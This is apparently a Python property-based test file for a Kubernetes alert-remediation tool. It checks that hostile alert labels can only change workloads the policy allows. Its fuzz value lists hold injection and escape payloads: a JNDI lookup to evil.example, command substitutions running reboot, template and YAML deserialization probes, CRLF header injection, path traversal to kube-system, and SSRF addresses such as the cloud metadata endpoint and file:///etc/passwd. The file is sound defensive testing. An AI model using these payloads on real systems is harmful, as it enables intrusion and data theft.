"""Labels and annotations are hostile: whatever they say, no action of the registry changes anything else.

One runbook has a step of every action. Notifications of hostile texts go the whole way: the parser, the
journey, every guard and the step performer, in a town that has whatever is asked for and keeps what reached
it. The labels may choose among the catalog's services, or name an object, for rules say so. What is done to
the workload they chose is what an ordinary alert does to it, to the letter: no image, number, word or host is
theirs, nor any target that the policy does not allow.
"""

from __future__ import annotations

import asyncio
import re
from collections.abc import Collection, Sequence
from dataclasses import dataclass, field, replace
from functools import cache

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from remediator.actions import ACTIONS
from remediator.core.changes import ClusterChange, Fence, IsolateWorkload, RestoreWorkload, RunJob
from remediator.core.changes import SetAutoscalerBounds as Bounds
from remediator.core.cluster import EPOCH_ANNOTATION, Autoscaler, Container, Pod, Revision, Workload
from remediator.core.isolation import ISOLATED_REPLICAS, ISOLATED_UNTIL
from remediator.core.jobs import Job
from remediator.core.journal import Kind
from remediator.core.objects import HPA, ObjectRef
from remediator.core.policies import Policy, WorkloadRef
from remediator.core.probing import authority
from remediator.core.programs import Ended, Program
from remediator.core.requests import HttpReply, HttpRequest
from remediator.http.payload import BadPayload
from remediator.policy.load import load_policy
from remediator.testing.memory import MemoryStore
from tests.property.test_hostile_labels import (
    ANYTHING,
    HOSTILE,
    INCIDENT,
    READ,
    RECKLESS,
    URLS,
    Alerts,
    Witness,
    allowed,
    body_of,
    check,
    run,
)

SCENES = {
    "restart": "{}",
    "set_image": "{image: 'registry.local/app:v9'}",
    "set_resources": "{limits: {memory: 1Gi}}",
    "rollback": "{}",
    "scale": "{to: 5}",
    "isolate": "{for: 30m}",
    "restore": "{}",
    "hpa": "{min: 3}",
    "delete_pod": "{which: not_ready}",
    "evict_pod": "{which: not_ready}",
    "exec": "{command: [reset, --of, '{{ service.name }}', --id, '{{ incident.id }}']}",
    "http": """{path: '/{{ service.name }}/reset', body: '{"of": "{{ service.name }}"}'}""",
    "job": "{from: tidy, timeout: 1m}",
}
"""The step of each action, in an order in which all of them can be done. ``Town`` answers for each."""
STEPS = "".join(f"\n      - {name}: {params}" for name, params in SCENES.items())
EVERYTHING = RECKLESS.replace(
    "steps: [restart: {}, job: {from: tidy, timeout: 1m}]", f"steps:{STEPS}"
).replace(
    "diagnose: [workload: {}, pods: {}]",
    "diagnose: [workload: {}, pods: {}, exec: {command: [look, '{{ service.name }}']}]",
)
for service in ("web", "api", "data", "far"):
    place = f"  {service}: {{"
    EVERYTHING = EVERYTHING.replace(place, f"{place}health: 'http://{service}.shop:8080/health', ")
NAMED = ("web", "api")
"""The services that may be changed."""


@cache
def policy() -> Policy:
    return load_policy({"all.yaml": EVERYTHING})


def test_every_action_has_a_scene() -> None:
    """A new one is not done before hostile labels have met it."""
    missing = ACTIONS.keys() - SCENES.keys()
    assert not missing, (
        f"{', '.join(sorted(missing))}: no scene in tests/property/test_hostile_actions.py; add its step to "
        "SCENES, and to Town what it looks at and what reaches the world of it"
    )
    assert not SCENES.keys() - ACTIONS.keys(), "a scene is left of an action that is gone"


# --- a town that has whatever is asked for ---


@dataclass
class Town(Witness):
    """Every workload has pods, revisions and memories as the actions want them; what reaches it is kept."""

    isolated: set[WorkloadRef] = field(default_factory=set)
    scaled: set[WorkloadRef] = field(default_factory=set)
    """Those that have an autoscaler: made by somebody once their isolation is over."""
    claimed: set[ObjectRef] = field(default_factory=set)
    ran: list[Program] = field(default_factory=list)
    sent: list[HttpRequest] = field(default_factory=list)
    keys: list[str] = field(default_factory=list)

    def _workload(self, ref: WorkloadRef, **annotations: str) -> Workload:
        away = ref in self.isolated
        memory = {ISOLATED_REPLICAS: "2", ISOLATED_UNTIL: "2026-11-23T05:00:00.000Z"} if away else {}
        of = super()._workload(ref, **{**memory, **annotations})
        return replace(
            of, desired=0 if away else 2, containers=(Container(name="main", image="registry.local/app:v1"),)
        )

    async def pods(self, workload: Workload) -> tuple[Pod, ...]:
        """The first is well, the second is not; the third is none of its own, whatever it is labelled."""
        self.looked_at.add(workload.ref)
        ref = workload.ref
        own = f"replicaset/{ref.name}-5d9c7" if ref.kind == "deployment" else f"{ref.kind}/{ref.name}"
        return tuple(
            Pod(
                name=f"{ref.name}-{number}",
                phase="Running",
                ready=number == 0,
                restarts=0,
                uid=f"{ref.path}/{number}",
                containers=("main",),
                controller=maker,
            )
            for number, maker in enumerate([own, own, "replicaset/stranger-1"])
        )

    async def logs(self, namespace: str, pod: str, container: str, **asked: object) -> tuple[str, ...]:
        of, _, number = pod.rpartition("-")
        assert (namespace, of) in {(ref.namespace, ref.name) for ref in self.looked_at}
        assert (number in "012", container) == (True, "main")
        return ()

    async def revisions(self, workload: Workload) -> tuple[Revision, ...]:
        self.looked_at.add(workload.ref)
        return tuple(
            Revision(number=number, name=f"it-{number}", uid=f"r{number}", current=number == 2)
            for number in (2, 1)
        )

    async def autoscalers(self, workload: Workload) -> tuple[Autoscaler, ...]:
        self.looked_at.add(workload.ref)
        if workload.ref not in self.scaled:
            return ()
        ref = ObjectRef(kind=HPA, namespace=workload.ref.namespace, name=f"of-{workload.ref.name}")
        return (Autoscaler(ref=ref, uid=ref.path, least=1, most=5),)

    async def claim(self, target: ObjectRef, uid: str, fence: Fence) -> Workload:
        assert uid == target.path
        self.claimed.add(target)
        ref = WorkloadRef(kind=target.kind, namespace=target.namespace, name=target.name)
        return self._workload(ref, **{EPOCH_ANNOTATION: str(fence.epoch)})

    async def prepare(self, change: RunJob, fence: Fence) -> Job:
        assert INCIDENT.match(fence.effect)
        return await super().prepare(change, fence)

    async def apply(self, change: ClusterChange, fence: Fence) -> None:
        await super().apply(change, fence)
        match change:
            case IsolateWorkload():
                self.isolated.add(change.target)
            case RestoreWorkload():
                self.isolated.discard(change.target)
                self.scaled.add(change.target)
            case Bounds():
                self.scaled.discard(change.target)
            case _:
                pass

    # --- core.programs.ProgramRunner and core.requests.HttpSender ---

    async def permit(self, what: Program | HttpRequest, *, hosts: Collection[str] = ()) -> None:
        if isinstance(what, Program):
            self.touched.add(what.of)
        else:
            assert authority(what.url) in hosts

    async def run(self, program: Program) -> Ended:
        self.ran.append(program)
        return Ended(exit_code=0)


@dataclass
class Sends:
    """``core.requests.HttpSender``: what reaches the network."""

    town: Town

    async def permit(self, request: HttpRequest, *, hosts: Collection[str]) -> None:
        assert authority(request.url) in hosts

    async def send(self, request: HttpRequest, *, hosts: Collection[str], key: str) -> HttpReply:
        assert authority(request.url) in hosts
        self.town.sent.append(request)
        self.town.keys.append(key)
        return HttpReply(status=204, text="")


async def told(alerts: Alerts) -> tuple[Town, MemoryStore]:
    """What reaches the world of a notification."""
    town = Town()
    _, store = await run(policy(), body_of(alerts), town, programs=town, sender=Sends(town))
    return town, store


# --- what an ordinary alert does ---


@dataclass(frozen=True, kw_only=True)
class Done:
    """All that is done to one workload. ``programs``: with the incident's name left open."""

    changes: Sequence[ClusterChange]
    programs: Sequence[Program]
    requests: Sequence[HttpRequest]


def unnamed(change: ClusterChange) -> ClusterChange:
    """Without the name of the job, which follows from the incident's."""
    return replace(change, job_uid="") if isinstance(change, RunJob) else change


def open_words(program: Program) -> Program:
    words = tuple("ID" if INCIDENT.fullmatch(word) else word for word in program.command)
    return replace(program, command=words)


@cache
def ordinary(ref: WorkloadRef) -> Done:
    """What an alert does whose labels are as they should be: they say which workload it is, and no more."""
    name = next((name for name, one in policy().services.items() if one.workload == ref), None)
    if name is not None:
        labels = {"alertname": "ServiceDown", "severity": "critical", "service": name}
    else:
        assert ref.kind == "statefulset", "labels name no other kind"
        labels = {"alertname": "x", "severity": "some", "namespace": ref.namespace, "pod": ref.name}
    town, store = asyncio.run(told([(labels, {})]))
    steps = [e for each in store._timelines.values() for e in each if e.kind is Kind.STEP]
    done = [str(e.data["action"]) for e in steps if e.data["result"] in ("done", "begun")]
    expected = list(SCENES) if name is not None else list(SCENES)[: list(SCENES).index("http")]
    assert list(dict.fromkeys(done)) == expected, [e.text for e in steps]
    changes = [unnamed(change) for change in town.applied]
    return Done(changes=changes, programs=[open_words(one) for one in town.ran], requests=town.sent)


def test_an_ordinary_alert_performs_every_action() -> None:
    """The property below is not true for want of changes. Who is not in the catalog has no host to ask."""
    stranger = WorkloadRef(kind="statefulset", namespace="shop", name="batch-1")
    for ref in (*allowed(policy()), stranger):
        done = ordinary(ref)
        assert {change.target for change in done.changes} == {ref}
        assert {program.of for program in done.programs} == {ref}
    assert {policy().services[name].workload for name in NAMED} == allowed(policy())


# --- whatever the labels say ---


def held(town: Town, store: MemoryStore) -> None:
    """Everything that reached the world is inside of what the policy allows, and is its author's own."""
    check(policy(), town, store)
    guards = policy().guards
    for change in town.applied:
        for ref in (change.target, change.fenced_on):
            assert ref.namespace in guards.namespaces
            assert f"{ref.kind}/{ref.name}" not in guards.protect
        assert unnamed(change) in ordinary(change.target).changes
    meant = {change.fenced_on for change in town.applied}
    assert town.claimed <= meant, "nothing is claimed that is not changed"
    for program in town.ran:
        assert program.of.namespace in guards.namespaces
        assert open_words(program) in ordinary(program.of).programs
        assert len(program.command) in (2, 5), "a label is one word at most"
    known = [request for name in NAMED for request in ordinary(_workload(name)).requests]
    for request, key in zip(town.sent, town.keys, strict=True):
        assert request in known
        assert re.fullmatch(rf"{INCIDENT.pattern}/[0-9]+/[0-9]+", key), "a header of one line"


def _workload(name: str) -> WorkloadRef:
    found = policy().services[name].workload
    assert found is not None
    return found


ESCAPES = (
    "kube-system", "kube-public", "remediator", "far", "data", "statefulset/data", "elsewhere/deployment/far",
    "shop/../kube-system", "shop/deployment/web", "web/scale", "web/../data", "..%2f..%2fkube-system", ".*",
    "./web", "web/", "//web", "web?dryRun=All", "web#x", "web;data", "web,data", "web data", "web|data", "",
)  # fmt: skip
TEMPLATES = (
    "{{ service.name }}", "{{ labels['namespace'] }}", "{% for x in labels %}{{ x }}{% endfor %}", "{#",
    "${jndi:ldap://evil.example/x}", "${IFS}", "$(reboot)", "`reboot`", "#{7*7}", "<%= 7*7 %>", "%(x)s",
)  # fmt: skip
BREAKERS = (
    '"}', '", "of": "data', "'\"", "\\", "\\u0000", "web\n- name: x\n  mode: auto", "!!python/object:os.f",
    "&a *a", "{a: b}", "null", "~", "true", "1e999", "NaN", "-", "---", "<x/>", "--help", "-o", "--id",
)  # fmt: skip
LOOKALIKES = (
    "w\u0435b", "\uff57\uff45\uff42", "we\u200bb", "web\u202e", "\u2066web\u2069", "WEB", "\u017fhop",
    "\ufeffweb", "web\u2028", "web\u00a0", "web\u0301", "\u1e9e", "\u0130", "da\u00adta", "\U0001f4a5",
)  # fmt: skip
CONTROLS = ("web\r\nX-Evil: 1\r\n\r\n", "web\x1b]0;x\x07", "\x7f", "\x9b31m", "web\x0bdata", "\t", "web\x01")
SELECTORS = ("app in (web, data)", "app!=web", "!app", "*", "a=b,c=d", 'up{x="y"} or vector(1)', "=~.*")
ADDRESSES = (
    "http://169.254.169.254/latest/meta-data/", "http://data.shop:8080/", "http://web.shop:8080@evil.example/",
    "http://evil.example#web.shop:8080", "//evil.example", "file:///etc/passwd", "[::1]:8080", "web:8080",
)  # fmt: skip
LONG = st.builds(
    lambda unit, length: (unit * length)[:length],
    st.sampled_from(["a", "web", "../", "{{", "\u00e9", "-", "(a+)+"]),
    st.sampled_from([63, 64, 253, 254] * 4 + [4095, 4096, 4097, 65536]),
)
"""The longest ones are dead letters, alone."""
ONE = st.one_of(
    *(st.sampled_from(each) for each in (HOSTILE, ESCAPES, TEMPLATES, BREAKERS, LOOKALIKES, SELECTORS)),
    *(st.sampled_from(each) for each in (CONTROLS, ADDRESSES)),
    LONG,
    ANYTHING,
)  # fmt: skip
VALUES = st.builds(
    str, st.one_of(ONE, st.builds(lambda a, b: a + b, st.one_of(ONE, st.sampled_from(NAMED)), ONE))
)
"""Built, so that they count as one where they are chosen among others."""
KEYS = st.one_of(st.sampled_from(READ[1:]), st.sampled_from(READ[1:]).map(str.upper), ONE.filter(bool))
SERVICES = st.one_of(
    *[st.sampled_from(NAMED)] * 2, st.sampled_from(["data", "far", "bare", "stranger"]), VALUES
)
PLACES = st.one_of(
    *[st.just("shop")] * 2, st.sampled_from(["elsewhere", "kube-system", "remediator"]), VALUES
)
PADDED = st.builds(lambda pad, name: f"{pad}{name.upper()}{pad}", st.sampled_from(["", " ", "\n"]), SERVICES)
CHOOSING = st.one_of(
    st.fixed_dictionaries({"severity": st.just("critical"), "service": SERVICES}),
    st.fixed_dictionaries({"severity": st.just("warning"), "deployment": SERVICES}),
    st.fixed_dictionaries({"severity": st.just("info"), "namespace": PADDED}),
    st.fixed_dictionaries({
        "severity": st.sampled_from(["none", "some"]),
        "namespace": PLACES,
        "pod": st.one_of(*[st.sampled_from(["batch-1", "web", "api", "data"])] * 3, VALUES),
    }),
    st.fixed_dictionaries({"severity": VALUES, "job": SERVICES}),
)  # fmt: skip
"""What the rules read to choose: as it should be, or not."""
LABELS = st.builds(
    lambda others, choosing, name: {**others, **choosing, "alertname": name},
    st.dictionaries(KEYS, VALUES, max_size=6),
    CHOOSING,
    VALUES,
)
ANNOTATIONS = st.dictionaries(
    st.one_of(st.sampled_from(["summary", "description", "runbook_url", "dashboard"]), ONE.filter(bool)),
    st.one_of(VALUES, URLS),
    max_size=3,
)
ALERT_LISTS = st.lists(st.tuples(LABELS, ANNOTATIONS), min_size=1, max_size=2)


def whatever_they_say(alerts: Alerts) -> None:
    held(*asyncio.run(told(alerts)))


@settings(max_examples=1000, deadline=None)
@given(ALERT_LISTS)
@example([({"alertname": "x", "severity": "critical", "service": "web"}, {})])
@example([({"alertname": "x", "severity": "info", "namespace": " API "}, {"summary": "\x1b[2J"})])
@example([({"alertname": "x", "severity": "y", "pod": "w", "container": "eb"}, {})])
@example([({"alertname": "x", "severity": "none", "namespace": "shop", "pod": "batch-1"}, {})])
@example([({"alertname": "x", "severity": "some", "namespace": "shop", "pod": "data"}, {})])
@example([({"alertname": "x", "severity": "none", "namespace": "kube-system", "pod": "web"}, {})])
def test_whatever_the_labels_say_every_action_changes_what_its_author_meant(alerts: Alerts) -> None:
    whatever_they_say(alerts)


@pytest.mark.full
@settings(max_examples=10_000, deadline=None)
@given(ALERT_LISTS)
def test_whatever_the_labels_say_every_action_changes_what_its_author_meant_at_length(alerts: Alerts) -> None:
    whatever_they_say(alerts)


@given(ALERT_LISTS, st.sampled_from(["\0", "\ud800", "\udfff"]))
def test_a_character_that_is_none_refuses_the_whole_notification(alerts: Alerts, character: str) -> None:
    """NUL and half a character: nothing of it is even looked at."""
    labels, annotations = alerts[-1]
    for worse in (({**labels, "pod": character}, annotations), (labels, {**annotations, character: "x"})):
        with pytest.raises(BadPayload, match=r"NUL|lone surrogate"):
            asyncio.run(told([*alerts[:-1], worse]))
